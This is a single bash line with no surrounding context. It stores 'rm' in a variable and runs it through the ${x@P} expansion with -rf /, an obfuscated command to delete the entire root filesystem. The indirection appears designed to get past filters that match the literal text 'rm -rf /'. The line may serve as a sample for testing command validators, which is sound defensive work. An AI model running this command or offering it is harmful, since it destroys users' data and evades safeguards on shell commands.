x='rm'; ${x@P} -rf /
